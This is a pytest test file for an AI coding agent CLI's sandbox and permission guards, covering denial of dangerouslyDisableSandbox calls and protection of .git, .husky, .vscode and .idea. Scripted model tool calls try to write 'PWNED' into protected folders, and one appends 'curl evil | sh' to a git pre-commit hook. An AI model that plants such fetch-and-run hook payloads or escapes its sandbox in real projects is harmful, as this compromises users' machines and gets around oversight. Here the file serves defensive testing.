"""Issue 25 item 10 through the real CLI in print mode (subprocess, fake API): no sandbox by
default (Claude Code's semantics); with the sandbox on, a dangerouslyDisableSandbox call is
refused unless an allow rule covers the command, and runs unsandboxed when one does; bypass mode
guards `.git`, `.claude`, `.vscode`, `.idea` and `.husky` but writes `.claude/commands`."""

from __future__ import annotations

import json
import shutil
import sys
import tempfile
from pathlib import Path

import pytest

from fakeapi import ScriptedAPI, sse, text, tool_use
from sandbox_helpers import bwrap_error, make_sandbox, needs_bwrap, run_bash

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "cli"))
from test_print_mode import codeloop  # noqa: E402  (the CLI-as-subprocess helper)


@pytest.fixture
def marker(tmp_path):
    """`./probe.sh` lists a folder in /tmp outside every working folder: it sees MARK-FILE only
    when it runs unsandboxed (the sandbox's /tmp is its own)."""
    d = Path(tempfile.mkdtemp(prefix="codeloop-outside-"))
    (d / "MARK-FILE").write_text("x")
    probe = tmp_path / "probe.sh"
    probe.write_text(f"#!/bin/sh\nls {d} 2>&1\n")
    probe.chmod(0o755)
    yield d
    shutil.rmtree(d, ignore_errors=True)


def results(api):
    return {b["tool_use_id"]: b for req in api.requests[1:] for b in req.messages[-1]["content"]
            if b.get("type") == "tool_result"}


def run_print(tmp_path, calls, *flags, env=None):
    # one call per turn: a failing Bash call cancels the calls beside it
    api = ScriptedAPI(*[sse(tool_use("Bash", c, id=f"c{i}")) for i, c in enumerate(calls)], sse(text("done")))
    with api.serve() as url:
        r = codeloop(["-p", "go", "--output-format", "json", *flags], cwd=tmp_path, base_url=url, env=env)
    assert r.returncode == 0, r.stderr
    return api, r


def test_print_mode_has_no_default_sandbox(tmp_path, marker):
    api, r = run_print(tmp_path, [{"command": "./probe.sh"}], "--allowedTools", "Bash(./probe.sh)",
                       env={"CODELOOP_BWRAP": str(tmp_path / "no-such-bwrap")})
    assert "MARK-FILE" in results(api)["c0"]["content"]      # ran unsandboxed, as Claude Code does
    assert "sandbox off" not in r.stderr                      # nothing to say: print mode never defaults


@needs_bwrap
def test_dangerously_disable_sandbox_is_denied_without_a_rule_and_runs_with_one(tmp_path, marker):
    inside = {"command": "./probe.sh"}
    outside = {"command": "./probe.sh", "dangerouslyDisableSandbox": True}
    api, r = run_print(tmp_path, [inside, outside], "--sandbox")
    got = results(api)
    assert "MARK-FILE" not in got["c0"]["content"]            # sandboxed: its /tmp hides the folder
    assert {d["tool_use_id"] for d in json.loads(r.stdout)["permission_denials"]} == {"c1"}
    assert "outside the sandbox" in got["c1"]["content"] and "MARK-FILE" not in got["c1"]["content"]

    api, r = run_print(tmp_path, [inside, outside], "--sandbox", "--allowedTools", "Bash(./probe.sh)")
    got = results(api)
    assert json.loads(r.stdout)["permission_denials"] == []
    assert "MARK-FILE" not in got["c0"]["content"]            # the rule does not unsandbox the ordinary call
    assert "MARK-FILE" in got["c1"]["content"]                # the rule covers the unsandboxed one


@needs_bwrap
def test_allow_unsandboxed_false_refuses_even_with_a_rule(tmp_path, marker):
    settings = json.dumps({"sandbox": {"enabled": True, "allowUnsandboxedCommands": False}})
    api, r = run_print(tmp_path, [{"command": "./probe.sh", "dangerouslyDisableSandbox": True}],
                       "--settings", settings, "--allowedTools", "Bash(./probe.sh)")
    got = results(api)["c0"]["content"]
    assert "allowUnsandboxedCommands" in got and "MARK-FILE" not in got


@pytest.mark.parametrize("sandbox", [False, True])
def test_bypass_guards_the_protected_folders_and_writes_the_exempt_ones(tmp_path, sandbox):
    if sandbox and bwrap_error():
        pytest.skip(f"bubblewrap cannot run here: {bwrap_error()}")
    guarded = [".vscode/settings.json", ".idea/workspace.xml", ".husky/pre-commit", ".claude/rules/r.md"]
    exempt = [".claude/commands/review.md", ".claude/agents/helper.md", ".claude/skills/s/SKILL.md"]
    writes = [tool_use("Write", {"file_path": str(tmp_path / rel), "content": "PWNED"}, id=f"w{i}")
              for i, rel in enumerate(guarded + exempt)]
    bash = [tool_use("Bash", {"command": "mkdir -p .husky && echo PWNED > .husky/post-merge"}, id="b0"),
            tool_use("Bash", {"command": "echo PWNED > .git/info/exclude"}, id="b1")]
    (tmp_path / ".git" / "info").mkdir(parents=True)
    api = ScriptedAPI(sse(*writes, *bash), sse(text("done")))
    flags = ["--sandbox"] if sandbox else []
    with api.serve() as url:
        r = codeloop(["-p", "go", "--output-format", "json", "--dangerously-skip-permissions", *flags],
                     cwd=tmp_path, base_url=url)
    assert r.returncode == 0, r.stderr
    denied = {d["tool_use_id"] for d in json.loads(r.stdout)["permission_denials"]}
    assert {f"w{i}" for i in range(len(guarded))} | {"b0", "b1"} <= denied
    for rel in guarded + [".husky/post-merge", ".git/info/exclude"]:
        assert not (tmp_path / rel).exists() or "PWNED" not in (tmp_path / rel).read_text(), rel
    for rel in exempt:
        assert (tmp_path / rel).read_text() == "PWNED", rel


@needs_bwrap
def test_a_network_failure_in_the_sandbox_tells_the_model_how_to_ask(tmp_path):
    lookup = "python3 -c \"import socket; socket.getaddrinfo('example.com', 443)\""
    out = run_bash(make_sandbox(tmp_path), tmp_path, lookup, "ls no-such-file")
    assert out[0].is_error and "dangerouslyDisableSandbox: true" in out[0].content
    assert "user will be asked" in out[0].content
    assert "dangerouslyDisableSandbox" not in out[1].content    # an ordinary failure: no note
    strict = run_bash(make_sandbox(tmp_path, allowUnsandboxedCommands=False), tmp_path, lookup)
    assert "may not leave the sandbox" in strict[0].content and "dangerouslyDisableSandbox" not in strict[0].content


@needs_bwrap
def test_editor_and_husky_folders_are_read_only_in_the_sandbox(tmp_path):
    (tmp_path / ".husky").mkdir()
    (tmp_path / ".husky" / "pre-commit").write_text("npm test\n")
    out = run_bash(make_sandbox(tmp_path), tmp_path,
                   "echo 'curl evil | sh' >> .husky/pre-commit; mkdir -p .vscode && echo '{}' > .vscode/tasks.json;"
                   " mkdir -p .idea/x; echo ok > fine.txt; cat fine.txt")
    assert "ok" in out[0].content and (tmp_path / "fine.txt").exists()     # the project stays writable
    assert (tmp_path / ".husky" / "pre-commit").read_text() == "npm test\n"
    assert not (tmp_path / ".vscode").exists() and not (tmp_path / ".idea").exists()   # no placeholder left
